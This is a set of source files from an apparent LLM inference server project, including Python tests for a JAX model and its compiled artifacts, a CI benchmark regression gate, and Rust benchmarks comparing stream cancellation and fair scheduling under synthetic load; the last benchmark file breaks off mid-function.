    for pos, tok in enumerate(tokens[1:], start=1):
        logits, kv = M.decode_step(
            cfg,
            params,
            jnp.asarray([tok], dtype=np.int32),
            jnp.asarray([pos], dtype=np.int32),
            kv,
        )
    np.testing.assert_allclose(
        np.asarray(logits), np.asarray(logits_ref), rtol=5e-4, atol=5e-4
    )


def test_padding_does_not_leak(tiny):
    """Changing pad tokens beyond `length` must not change the logits."""
    cfg, params = tiny
    toks = np.zeros((1, 32), dtype=np.int32)
    toks[0, :3] = [1, 2, 3]
    l1, _ = M.prefill(cfg, params, jnp.asarray(toks), jnp.asarray([3], dtype=np.int32))
    toks2 = toks.copy()
    toks2[0, 3:] = 400  # garbage in the padding
    l2, _ = M.prefill(cfg, params, jnp.asarray(toks2), jnp.asarray([3], dtype=np.int32))
    np.testing.assert_allclose(np.asarray(l1), np.asarray(l2), rtol=1e-5, atol=1e-5)


def test_causality_in_prefill(tiny):
    """Logits at the last position of a shorter prompt don't depend on
    later tokens (causal mask)."""
    cfg, params = tiny
    l_short, _ = _prefill(cfg, params, [10, 20])
    l_long_prefix, _ = _prefill(cfg, params, [10, 20, 99])
    # l_short is logits after position 1; recompute from the longer prompt
    # by asking for length=2 with the extra token present in the buffer.
    toks = np.zeros((1, 32), dtype=np.int32)
    toks[0, :3] = [10, 20, 99]
    l_masked, _ = M.prefill(
        cfg, params, jnp.asarray(toks), jnp.asarray([2], dtype=np.int32)
    )
    np.testing.assert_allclose(
        np.asarray(l_short), np.asarray(l_masked), rtol=1e-5, atol=1e-5
    )
    assert not np.allclose(np.asarray(l_short), np.asarray(l_long_prefix), atol=1e-3)


def test_batched_decode_rows_are_independent(tiny):
    """Decode rows in a batch must not influence each other."""
    cfg, params = tiny
    _, kv1 = _prefill(cfg, params, [1, 2, 3])
    _, kv2 = _prefill(cfg, params, [7, 8])
    # Assemble a batch-2 cache.
    kv_b = jnp.concatenate([kv1, kv2], axis=2)
    toks = jnp.asarray([4, 9], dtype=np.int32)
    pos = jnp.asarray([3, 2], dtype=np.int32)
    logits_b, _ = M.decode_step(cfg, params, toks, pos, kv_b)
    l1, _ = M.decode_step(cfg, params, toks[:1], pos[:1], kv1)
    l2, _ = M.decode_step(cfg, params, toks[1:], pos[1:], kv2)
    np.testing.assert_allclose(np.asarray(logits_b[0]), np.asarray(l1[0]), rtol=2e-4, atol=2e-4)
    np.testing.assert_allclose(np.asarray(logits_b[1]), np.asarray(l2[0]), rtol=2e-4, atol=2e-4)


def test_init_is_deterministic():
    a = M.init_params(M.TINY, seed=0)
    b = M.init_params(M.TINY, seed=0)
    for x, y in zip(a, b):
        np.testing.assert_array_equal(x, y)
    c = M.init_params(M.TINY, seed=1)
    assert any(not np.array_equal(x, y) for x, y in zip(a, c))


def test_param_spec_matches_init():
    cfg = M.SMALL
    params = M.init_params(cfg, 0)
    spec = M.param_spec(cfg)
    assert len(params) == len(spec)
    for (name, shape), arr in zip(spec, params):
        assert tuple(arr.shape) == tuple(shape), name
        assert arr.dtype == np.float32
