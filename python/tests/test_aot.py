"""AOT artifact integrity: manifest structure, weights blob round-trip,
HLO text sanity, and numeric equivalence of the lowered decode step
against the eager model (executed through jax's own runtime — the same
HLO the rust PJRT client loads)."""

import json
import os

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from compile import aot, model as M

ARTIFACTS = os.path.join(os.path.dirname(__file__), "..", "..", "artifacts")


@pytest.fixture(scope="module")
def manifest():
    path = os.path.join(ARTIFACTS, "manifest.json")
    if not os.path.exists(path):
        pytest.skip("artifacts not built (run `make artifacts`)")
    with open(path) as f:
        return json.load(f)


def test_manifest_lists_expected_models(manifest):
    assert "tiny" in manifest["models"]
    assert "small-chat" in manifest["models"]
    for name, m in manifest["models"].items():
        kinds = {(a["kind"], a.get("batch"), a.get("seq_bucket")) for a in m["artifacts"]}
        for b in aot.DECODE_BATCH_BUCKETS:
            assert ("decode", b, None) in kinds, (name, b)


def test_params_bin_roundtrip(manifest):
    m = manifest["models"]["tiny"]
    cfg = M.ModelConfig(**m["config"])
    blob = np.fromfile(
        os.path.join(ARTIFACTS, m["dir"], m["params"]["file"]), dtype=np.float32
    )
    assert blob.size == m["params"]["total_numel"]
    expected = M.init_params(cfg, m["seed"])
    for entry, arr in zip(m["params"]["entries"], expected):
        got = blob[entry["offset"]: entry["offset"] + entry["numel"]].reshape(entry["shape"])
        np.testing.assert_array_equal(got, arr, err_msg=entry["name"])


def test_hlo_text_is_parseable_prefix(manifest):
    m = manifest["models"]["tiny"]
    for art in m["artifacts"]:
        path = os.path.join(ARTIFACTS, m["dir"], art["file"])
        with open(path) as f:
            text = f.read()
        assert text.startswith("HloModule"), art["file"]
        assert "ENTRY" in text, art["file"]


def test_artifact_input_arity(manifest):
    """Input count in the HLO must be n_params + extra inputs."""
    m = manifest["models"]["tiny"]
    n_params = len(m["params"]["entries"])
    for art in m["artifacts"]:
        path = os.path.join(ARTIFACTS, m["dir"], art["file"])
        with open(path) as f:
            text = f.read()
        entry_line = next(
            line for line in text.splitlines() if line.startswith("ENTRY")
        )
        n_args = entry_line.count("parameter") + entry_line.count(": f32") + entry_line.count(": s32")
        # Robust count: parameters appear as %Arg_N or param_N tokens.
        import re
        args = re.findall(r"(?:Arg_|param_?)(\d+)", entry_line)
        if args:
            assert len(set(args)) == n_params + len(art["extra_inputs"]), art["file"]


def test_lowered_decode_matches_eager(manifest):
    """Execute the tiny decode_b1 HLO through jax and compare to eager."""
    m = manifest["models"]["tiny"]
    cfg = M.ModelConfig(**m["config"])
    params = M.init_params(cfg, m["seed"])

    toks = np.zeros((1, 32), dtype=np.int32)
    toks[0, :3] = [9, 8, 7]
    _, kv = M.prefill(cfg, params, jnp.asarray(toks), jnp.asarray([3], dtype=np.int32))
    token = jnp.asarray([4], dtype=np.int32)
    pos = jnp.asarray([3], dtype=np.int32)

    eager_logits, eager_kv = M.decode_step(cfg, params, token, pos, kv)

    # Re-lower the same function the way aot.py does and execute it.
    spec = M.param_spec(cfg)

    def decode_fn(*flat):
        ps = list(flat[: len(spec)])
        tokens, positions, kv = flat[len(spec):]
        return M.decode_step(cfg, ps, tokens, positions, kv)

    compiled = jax.jit(decode_fn)
    got_logits, got_kv = compiled(*params, token, pos, kv)
    np.testing.assert_allclose(
        np.asarray(got_logits), np.asarray(eager_logits), rtol=1e-5, atol=1e-5
    )
    np.testing.assert_allclose(
        np.asarray(got_kv), np.asarray(eager_kv), rtol=1e-5, atol=1e-5
    )
