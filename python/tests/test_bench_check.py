"""Tests for the CI bench regression gate (python/bench_check.py)."""

import importlib.util
import json
import pathlib
import sys

HERE = pathlib.Path(__file__).resolve()
SPEC = importlib.util.spec_from_file_location(
    "bench_check", HERE.parent.parent / "bench_check.py"
)
bench_check = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(bench_check)


def write(path, doc):
    path.write_text(json.dumps(doc))
    return str(path)


def baseline_doc(baseline=1.0):
    return {
        "tolerance": 0.15,
        "benches": {
            "b": {
                "metrics": {
                    "summary.x": {"baseline": baseline, "note": "kept"},
                    "rows.-1.y": {"baseline": 2.0},
                }
            }
        },
    }


def result_doc(x, y):
    return {
        "bench": "b",
        "smoke": True,
        "result": {"summary": {"x": x}, "rows": [{"y": 0.0}, {"y": y}]},
    }


def run(args):
    return bench_check.main(["bench_check.py"] + args)


def test_pass_and_fail(tmp_path):
    base = write(tmp_path / "base.json", baseline_doc())
    good = write(tmp_path / "good.json", result_doc(1.2, 2.5))
    bad = write(tmp_path / "bad.json", result_doc(0.5, 2.5))
    assert run([base, good]) == 0
    assert run([base, bad]) == 1


def test_unresolvable_metric_fails(tmp_path):
    base = write(tmp_path / "base.json", baseline_doc())
    broken = write(
        tmp_path / "broken.json", {"bench": "b", "smoke": True, "result": {}}
    )
    assert run([base, broken]) == 1


def test_unguarded_bench_is_skipped(tmp_path):
    base = write(tmp_path / "base.json", baseline_doc())
    other = write(
        tmp_path / "other.json",
        {"bench": "unknown", "smoke": True, "result": {"z": 1}},
    )
    assert run([base, other]) == 0


def test_ratchet_rewrites_baselines_from_passing_run(tmp_path):
    base_path = tmp_path / "base.json"
    write(base_path, baseline_doc())
    good = write(tmp_path / "good.json", result_doc(1.4, 3.2))
    assert run(["--ratchet", str(base_path)] + [good]) == 0
    updated = json.loads(base_path.read_text())
    metrics = updated["benches"]["b"]["metrics"]
    assert metrics["summary.x"]["baseline"] == 1.4
    assert metrics["summary.x"]["note"] == "kept", "notes survive the ratchet"
    assert metrics["rows.-1.y"]["baseline"] == 3.2
    assert updated["tolerance"] == 0.15


def test_ratchet_never_lowers_a_floor(tmp_path):
    base_path = tmp_path / "base.json"
    write(base_path, baseline_doc(baseline=1.0))
    # Passing (within tolerance) but below the baseline: keep the floor.
    ok_but_lower = write(tmp_path / "lower.json", result_doc(0.9, 3.0))
    assert run(["--ratchet", str(base_path), ok_but_lower]) == 0
    updated = json.loads(base_path.read_text())
    metrics = updated["benches"]["b"]["metrics"]
    assert metrics["summary.x"]["baseline"] == 1.0, "floor never walks down"
    assert metrics["rows.-1.y"]["baseline"] == 3.0, "higher value ratchets up"


def test_ratchet_refuses_on_regression(tmp_path):
    base_path = tmp_path / "base.json"
    write(base_path, baseline_doc())
    bad = write(tmp_path / "bad.json", result_doc(0.1, 3.2))
    assert run(["--ratchet", str(base_path), bad]) == 1
    unchanged = json.loads(base_path.read_text())
    assert unchanged["benches"]["b"]["metrics"]["summary.x"]["baseline"] == 1.0


def test_report_file_is_written(tmp_path):
    base = write(tmp_path / "base.json", baseline_doc())
    good = write(tmp_path / "good.json", result_doc(1.2, 2.5))
    report = tmp_path / "report.txt"
    assert run(["--report", str(report), base, good]) == 0
    text = report.read_text()
    assert "summary.x" in text
    assert "within tolerance" in text


if __name__ == "__main__":
    import pytest

    sys.exit(pytest.main([__file__, "-v"]))
