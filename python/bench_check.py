#!/usr/bin/env python3
"""Bench regression gate: diff ablation JSON artifacts against the
committed BENCH_baseline.json and fail on regressions beyond tolerance.

Usage:
    bench_check.py [--ratchet] [--report PATH] BENCH_baseline.json RESULT.json [RESULT.json ...]

Each RESULT.json is a bench artifact emitted via `workload::bench::emit_json`
({"bench": NAME, "smoke": bool, "result": {...}}). The baseline file maps
bench names to guarded metrics:

    {
      "tolerance": 0.15,
      "benches": {
        "ablation_relay": {
          "metrics": {
            "summary.relay_speedup_64": {"baseline": 1.0,
                                          "note": "relay must not regress"}
          }
        }
      }
    }

A metric path is dot-separated into the bench's "result" object; integer
segments index arrays (negative indices allowed). A run fails when
`current < baseline * (1 - tolerance)` — all guarded metrics are
higher-is-better throughput/ratio numbers.

Modes:
  --ratchet       After a fully passing run, rewrite the baseline file in
                  place with every guarded metric's measured value — one
                  command instead of hand-editing JSON. A ratchet only
                  moves floors UP (a passing-but-lower value keeps the old
                  baseline; lowering a floor is a deliberate hand edit),
                  and it refuses entirely when any metric regressed or was
                  unresolvable.
  --report PATH   Also write the human-readable diff report to PATH (CI
                  uploads it as an artifact next to the JSONs).
"""

import json
import sys


def resolve(doc, path):
    node = doc
    for seg in path.split("."):
        if isinstance(node, list):
            node = node[int(seg)]
        elif isinstance(node, dict):
            node = node[seg]
        else:
            raise KeyError(f"cannot descend into {type(node).__name__} at {seg!r}")
    return node


def main(argv):
    args = list(argv[1:])
    ratchet = False
    report_path = None
    while args and args[0].startswith("--"):
        flag = args.pop(0)
        if flag == "--ratchet":
            ratchet = True
        elif flag == "--report":
            if not args:
                print("--report needs a path", file=sys.stderr)
                return 2
            report_path = args.pop(0)
        else:
            print(f"unknown flag {flag}", file=sys.stderr)
            return 2
    if len(args) < 2:
        print(__doc__, file=sys.stderr)
        return 2

    baseline_path = args[0]
    with open(baseline_path) as f:
        baseline = json.load(f)
    tolerance = float(baseline.get("tolerance", 0.15))
    benches = baseline.get("benches", {})

    lines = []

    def emit(line, stream=sys.stdout):
        print(line, file=stream)
        lines.append(line)

    failures = []
    checked = 0
    measured = {}  # bench -> {path -> current}
    for result_path in args[1:]:
        with open(result_path) as f:
            doc = json.load(f)
        name = doc.get("bench", "?")
        guards = benches.get(name, {}).get("metrics", {})
        if not guards:
            emit(f"[bench-check] {name}: no guarded metrics, skipping")
            continue
        result = doc.get("result", {})
        for path, spec in sorted(guards.items()):
            base = float(spec["baseline"])
            floor = base * (1.0 - tolerance)
            try:
                current = float(resolve(result, path))
            except (KeyError, IndexError, TypeError, ValueError) as e:
                failures.append(f"{name}:{path}: unresolvable ({e})")
                emit(f"[bench-check] {name}:{path}: unresolvable ({e})")
                continue
            checked += 1
            measured.setdefault(name, {})[path] = current
            verdict = "OK" if current >= floor else "FAIL"
            emit(
                f"[bench-check] {name}:{path}: current={current:.3f} "
                f"baseline={base:.3f} floor={floor:.3f} -> {verdict}"
            )
            if current < floor:
                failures.append(
                    f"{name}:{path}: {current:.3f} < {floor:.3f} "
                    f"(baseline {base:.3f}, tolerance {tolerance:.0%})"
                )

    status = 0
    if failures:
        emit(f"\n[bench-check] {len(failures)} regression(s):")
        for f_ in failures:
            print(f"  {f_}", file=sys.stderr)
            lines.append(f"  {f_}")
        status = 1
    else:
        emit(f"\n[bench-check] all {checked} guarded metrics within tolerance")

    if ratchet:
        if failures:
            emit("[bench-check] NOT ratcheting: run has regressions")
            status = 1
        elif not measured:
            emit("[bench-check] NOT ratcheting: nothing measured")
            status = 1
        else:
            updated = 0
            for name, metrics in measured.items():
                for path, current in metrics.items():
                    spec = benches[name]["metrics"][path]
                    old = float(spec["baseline"])
                    if current <= old:
                        emit(
                            f"[bench-check] ratchet {name}:{path}: "
                            f"kept {old:.3f} (measured {current:.3f} not higher)"
                        )
                        continue
                    spec["baseline"] = round(current, 4)
                    emit(
                        f"[bench-check] ratchet {name}:{path}: "
                        f"{old:.3f} -> {current:.3f}"
                    )
                    updated += 1
            with open(baseline_path, "w") as f:
                json.dump(baseline, f, indent=2)
                f.write("\n")
            emit(f"[bench-check] ratcheted {updated} baselines into {baseline_path}")

    if report_path:
        with open(report_path, "w") as f:
            f.write("\n".join(lines) + "\n")

    return status


if __name__ == "__main__":
    sys.exit(main(sys.argv))
