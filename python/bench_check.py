#!/usr/bin/env python3
"""Bench regression gate: diff ablation JSON artifacts against the
committed BENCH_baseline.json and fail on regressions beyond tolerance.

Usage:
    bench_check.py BENCH_baseline.json RESULT.json [RESULT.json ...]

Each RESULT.json is a bench artifact emitted via `workload::bench::emit_json`
({"bench": NAME, "smoke": bool, "result": {...}}). The baseline file maps
bench names to guarded metrics:

    {
      "tolerance": 0.15,
      "benches": {
        "ablation_relay": {
          "metrics": {
            "summary.relay_speedup_64": {"baseline": 1.0,
                                          "note": "relay must not regress"}
          }
        }
      }
    }

A metric path is dot-separated into the bench's "result" object; integer
segments index arrays (negative indices allowed). A run fails when
`current < baseline * (1 - tolerance)` — all guarded metrics are
higher-is-better throughput/ratio numbers. Raise baselines as the perf
trajectory improves; the gate then ratchets.
"""

import json
import sys


def resolve(doc, path):
    node = doc
    for seg in path.split("."):
        if isinstance(node, list):
            node = node[int(seg)]
        elif isinstance(node, dict):
            node = node[seg]
        else:
            raise KeyError(f"cannot descend into {type(node).__name__} at {seg!r}")
    return node


def main(argv):
    if len(argv) < 3:
        print(__doc__, file=sys.stderr)
        return 2
    with open(argv[1]) as f:
        baseline = json.load(f)
    tolerance = float(baseline.get("tolerance", 0.15))
    benches = baseline.get("benches", {})

    failures = []
    checked = 0
    for result_path in argv[2:]:
        with open(result_path) as f:
            doc = json.load(f)
        name = doc.get("bench", "?")
        guards = benches.get(name, {}).get("metrics", {})
        if not guards:
            print(f"[bench-check] {name}: no guarded metrics, skipping")
            continue
        result = doc.get("result", {})
        for path, spec in sorted(guards.items()):
            base = float(spec["baseline"])
            floor = base * (1.0 - tolerance)
            try:
                current = float(resolve(result, path))
            except (KeyError, IndexError, TypeError, ValueError) as e:
                failures.append(f"{name}:{path}: unresolvable ({e})")
                continue
            checked += 1
            verdict = "OK" if current >= floor else "FAIL"
            print(
                f"[bench-check] {name}:{path}: current={current:.3f} "
                f"baseline={base:.3f} floor={floor:.3f} -> {verdict}"
            )
            if current < floor:
                failures.append(
                    f"{name}:{path}: {current:.3f} < {floor:.3f} "
                    f"(baseline {base:.3f}, tolerance {tolerance:.0%})"
                )

    if failures:
        print(f"\n[bench-check] {len(failures)} regression(s):", file=sys.stderr)
        for f_ in failures:
            print(f"  {f_}", file=sys.stderr)
        return 1
    print(f"\n[bench-check] all {checked} guarded metrics within tolerance")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
