//! Ablation: abandoned-stream cancellation on vs off.
//!
//! The streaming subsystem's claim: a client that hangs up mid-stream
//! frees its continuous-batching slot and KV blocks at the next decode
//! step. With cancellation off (the pre-subsystem behaviour), abandoned
//! sequences decode to `max_tokens` into the void, starving honest
//! clients of batch slots. This bench runs a mixed workload — abandoners
//! that read 3 tokens and hang up, honest clients streaming to [DONE] —
//! and compares honest-stream throughput plus the engine's
//! cancelled/tokens-saved counters across the two modes.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, LlmServer};
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::workload::bench;

const MAX_BATCH: usize = 8;
const ABANDON_MAX_TOKENS: u64 = 160;
const HONEST_MAX_TOKENS: u64 = 24;
const ABANDONERS: usize = 6;
const HONEST: usize = 4;

/// A model that never EOSes: decode steps cost real wall time, so batch
/// slots are a scarce resource and an abandoned sequence visibly burns
/// capacity. Generation ends only via max_tokens (or cancellation).
struct SlowBackend {
    step: Duration,
}

impl SlowBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for SlowBackend {
    fn max_batch(&self) -> usize {
        MAX_BATCH
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        std::thread::sleep(self.step);
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

fn stream_request(max_tokens: u64) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "go")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", true);
    Request::new("POST", "/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes())
}

fn run_mode(cancellation: bool, duration: Duration) -> Json {
    let streaming = StreamingConfig {
        cancellation,
        heartbeat: Duration::from_millis(250),
        ..Default::default()
    };
    let server = LlmServer::start_with(
        "ablate",
        Arc::new(SlowBackend {
            step: Duration::from_millis(15),
        }),
        64,
        streaming,
    )
    .expect("start llm server");
    let url = server.url();
    let stop = Arc::new(AtomicBool::new(false));
    let honest_done = Arc::new(AtomicU64::new(0));
    let start = Instant::now();

    let mut handles = Vec::new();
    for _ in 0..ABANDONERS {
        let url = url.clone();
        let stop = stop.clone();
        handles.push(std::thread::spawn(move || {
            let mut client = Client::new(&url);
            while !stop.load(Ordering::Relaxed) {
                let mut seen = 0usize;
                let _ = client.send_streaming_until(
                    &stream_request(ABANDON_MAX_TOKENS),
                    |_s, _h| {},
                    |_chunk| {
                        seen += 1;
                        seen < 3 // read a few tokens, then close the tab
                    },
                );
                std::thread::sleep(Duration::from_millis(20));
            }
        }));
    }
    for _ in 0..HONEST {
        let url = url.clone();
        let stop = stop.clone();
        let done = honest_done.clone();
        handles.push(std::thread::spawn(move || {
            let mut client = Client::new(&url);
            while !stop.load(Ordering::Relaxed) {
                // Abort promptly at the window's end (heartbeats arrive
                // even while queued, so the callback runs regularly).
                let result = client.send_streaming_until(
                    &stream_request(HONEST_MAX_TOKENS),
                    |_s, _h| {},
                    |_c| !stop.load(Ordering::Relaxed),
                );
                if matches!(result, Ok(chat_ai::util::http::StreamOutcome::Complete)) {
                    done.fetch_add(1, Ordering::Relaxed);
                }
            }
        }));
    }

    std::thread::sleep(duration);
    stop.store(true, Ordering::Relaxed);
    for h in handles {
        let _ = h.join();
    }
    let elapsed = start.elapsed().as_secs_f64();

    let s = &server.engine.stats;
    let honest = honest_done.load(Ordering::Relaxed);
    let row = Json::obj()
        .set("cancellation", cancellation)
        .set("honest_streams", honest)
        .set("honest_streams_per_sec", honest as f64 / elapsed)
        .set("cancelled", s.cancelled.load(Ordering::Relaxed))
        .set("tokens_saved", s.tokens_saved.load(Ordering::Relaxed))
        .set("tokens_generated", s.tokens_generated.load(Ordering::Relaxed))
        .set("decode_steps", s.decode_steps.load(Ordering::Relaxed))
        .set("elapsed_s", elapsed);
    server.stop();
    row
}

fn main() {
    let duration = if bench::smoke() {
        Duration::from_millis(2500)
    } else {
        Duration::from_secs(8)
    };
    println!("Ablation: abandoned-stream cancellation (1 ablation: on vs off)");
    println!(
        "workload: {ABANDONERS} abandoners (hang up after 3 of {ABANDON_MAX_TOKENS} tokens) \
         + {HONEST} honest streams ({HONEST_MAX_TOKENS} tokens), batch {MAX_BATCH}\n"
    );
    println!(
        "{:>14} {:>14} {:>12} {:>14} {:>14}",
        "cancellation", "honest/s", "cancelled", "tokens_saved", "tokens_gen"
    );
    let mut rows = Vec::new();
    let mut rates = Vec::new();
    for cancellation in [true, false] {
        let row = run_mode(cancellation, duration);
        println!(
            "{:>14} {:>14.2} {:>12} {:>14} {:>14}",
            if cancellation { "on" } else { "off" },
            row.f64_field("honest_streams_per_sec").unwrap_or(0.0),
            row.u64_field("cancelled").unwrap_or(0),
            row.u64_field("tokens_saved").unwrap_or(0),
            row.u64_field("tokens_generated").unwrap_or(0),
        );
        rates.push(row.f64_field("honest_streams_per_sec").unwrap_or(0.0));
        rows.push(row);
    }
    let speedup = if rates[1] > 0.0 { rates[0] / rates[1] } else { f64::INFINITY };
    println!("\ncancellation-on honest throughput: {speedup:.2}x vs off");
    println!("reading: with cancellation off, every abandoned stream holds a");
    println!("batch slot for its full max_tokens; honest streams queue behind");
    println!("ghosts. Cancellation returns the slot within a decode step —");
    println!("tokens_saved counts the decode work the engine did not waste.");

    bench::emit_json(
        "ablation_streaming",
        &Json::obj()
            .set("modes", rows)
            .set("honest_speedup_on_vs_off", speedup),
    );
}
