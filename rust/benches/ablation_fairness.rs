//! Ablation: multi-tenant fair scheduling + SLO-aware admission control.
//!
//! Two claims under test:
//!
//! 1. **Aggressor vs victim** — one tenant floods the instance with long
//!    streaming generations while a victim tenant issues small interactive
//!    requests. With FIFO intake (fairness off) every victim request
//!    queues behind the aggressor's whole backlog; with token-weighted
//!    DRR (fairness on) the victim's queue releases interleave, so its
//!    p99 TTFT must improve ≥ 2×.
//!
//! 2. **Shed precision under 2× overload** — offered load at twice the
//!    instance's decode capacity, half interactive / half batch. The
//!    admission controller should shed the *sheddable* class: precision =
//!    batch sheds / total sheds, and every shed must carry `Retry-After`.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, EngineTuning, FairnessConfig, LlmServer};
use chat_ai::util::hist::Histogram;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::workload::bench;

const MAX_BATCH: usize = 4;
const STEP_MS: u64 = 8;
const AGGRESSOR_WORKERS: usize = 8;
const AGGRESSOR_MAX_TOKENS: u64 = 96;
const VICTIM_MAX_TOKENS: u64 = 8;

/// A paced model that never EOSes: decode steps cost real wall time, so
/// batch slots and queue position are the scarce resources.
struct SlowBackend {
    step: Duration,
}

impl SlowBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for SlowBackend {
    fn max_batch(&self) -> usize {
        MAX_BATCH
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        std::thread::sleep(self.step);
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

fn stream_request(tenant: &str, priority: &str, max_tokens: u64) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "go")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", true);
    Request::new("POST", "/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_header("x-consumer", tenant)
        .with_header("x-chat-ai-priority", priority)
        .with_body(body.to_string().into_bytes())
}

fn start_server(fairness: FairnessConfig) -> LlmServer {
    LlmServer::start_tuned(
        "ablate",
        Arc::new(SlowBackend {
            step: Duration::from_millis(STEP_MS),
        }),
        64,
        StreamingConfig::default(),
        EngineTuning {
            fairness,
            ..EngineTuning::default()
        },
    )
    .expect("start llm server")
}

/// Aggressor-vs-victim phase: returns (victim p50 ms, p99 ms, samples).
fn run_victim_phase(fair: bool, duration: Duration) -> Json {
    // Generous budgets/cap: phase 1 isolates the scheduling order, no
    // shedding may interfere.
    let fairness = FairnessConfig {
        enabled: fair,
        queue_cap: 10_000,
        interactive_wait: Duration::from_secs(3600),
        batch_wait: Duration::from_secs(3600),
        ..FairnessConfig::default()
    };
    let server = start_server(fairness);
    let url = server.url();
    let stop = Arc::new(AtomicBool::new(false));

    let mut handles = Vec::new();
    for _ in 0..AGGRESSOR_WORKERS {
        let url = url.clone();
        let stop = stop.clone();
        handles.push(std::thread::spawn(move || {
            let mut client = Client::new(&url);
            while !stop.load(Ordering::Relaxed) {
                let _ = client.send_streaming_until(
                    &stream_request("aggressor", "interactive", AGGRESSOR_MAX_TOKENS),
                    |_s, _h| {},
                    |_c| !stop.load(Ordering::Relaxed),
                );
            }
        }));
    }

    // Victim: sequential small requests, TTFT = send → first chunk.
    let ttft = Histogram::new();
    let mut victim_client = Client::new(&url);
    let t_end = Instant::now() + duration;
    let mut samples = 0u64;
    while Instant::now() < t_end {
        let t0 = Instant::now();
        let mut first: Option<Duration> = None;
        let _ = victim_client.send_streaming_until(
            &stream_request("victim", "interactive", VICTIM_MAX_TOKENS),
            |_s, _h| {},
            |_chunk| {
                if first.is_none() {
                    first = Some(t0.elapsed());
                }
                true
            },
        );
        if let Some(d) = first {
            ttft.record(d.as_micros() as u64);
            samples += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    for h in handles {
        let _ = h.join();
    }
    let s = &server.engine.stats;
    let row = Json::obj()
        .set("fairness", fair)
        .set("victim_ttft_p50_ms", ttft.p50() as f64 / 1e3)
        .set("victim_ttft_p99_ms", ttft.p99() as f64 / 1e3)
        .set("victim_samples", samples)
        .set(
            "fairness_ratio_milli",
            s.fairness_ratio_milli.load(Ordering::Relaxed),
        )
        .set("tokens_generated", s.tokens_generated.load(Ordering::Relaxed));
    server.stop();
    row
}

/// Overload phase: offered load ≈ 2× capacity, half interactive half
/// batch. Returns shed counts + precision.
fn run_shed_phase(duration: Duration) -> Json {
    let fairness = FairnessConfig {
        enabled: true,
        queue_cap: 64,
        // Tight sheddable budget, generous guaranteed budget: overload
        // must fall on batch.
        interactive_wait: Duration::from_secs(30),
        batch_wait: Duration::from_millis(500),
        ..FairnessConfig::default()
    };
    let server = start_server(fairness);
    let url = server.url();
    let stop = Arc::new(AtomicBool::new(false));
    let shed_batch = Arc::new(AtomicU64::new(0));
    let shed_interactive = Arc::new(AtomicU64::new(0));
    let ok_interactive = Arc::new(AtomicU64::new(0));
    let missing_retry_after = Arc::new(AtomicU64::new(0));

    // Capacity ≈ MAX_BATCH/step = 500 tok/s ≈ 5.2 streams/s at 96 tokens.
    // 2× overload: 16 workers × 96-token blocking generations over 4 slots.
    let mut handles = Vec::new();
    for worker in 0..16usize {
        let url = url.clone();
        let stop = stop.clone();
        let shed_batch = shed_batch.clone();
        let shed_interactive = shed_interactive.clone();
        let ok_interactive = ok_interactive.clone();
        let missing_retry_after = missing_retry_after.clone();
        let batch = worker % 2 == 0;
        handles.push(std::thread::spawn(move || {
            let (tenant, priority) = if batch {
                ("pipeline", "batch")
            } else {
                ("chat-ui", "interactive")
            };
            let mut client = Client::new(&url);
            while !stop.load(Ordering::Relaxed) {
                let body = Json::obj()
                    .set(
                        "messages",
                        vec![Json::obj().set("role", "user").set("content", "go")],
                    )
                    .set("max_tokens", AGGRESSOR_MAX_TOKENS);
                let req = Request::new("POST", "/v1/chat/completions")
                    .with_header("content-type", "application/json")
                    .with_header("x-consumer", tenant)
                    .with_header("x-chat-ai-priority", priority)
                    .with_body(body.to_string().into_bytes());
                match client.send(&req) {
                    Ok(resp) if resp.status == 429 || resp.status == 503 => {
                        if resp.headers.get("retry-after").is_none() {
                            missing_retry_after.fetch_add(1, Ordering::Relaxed);
                        }
                        if batch {
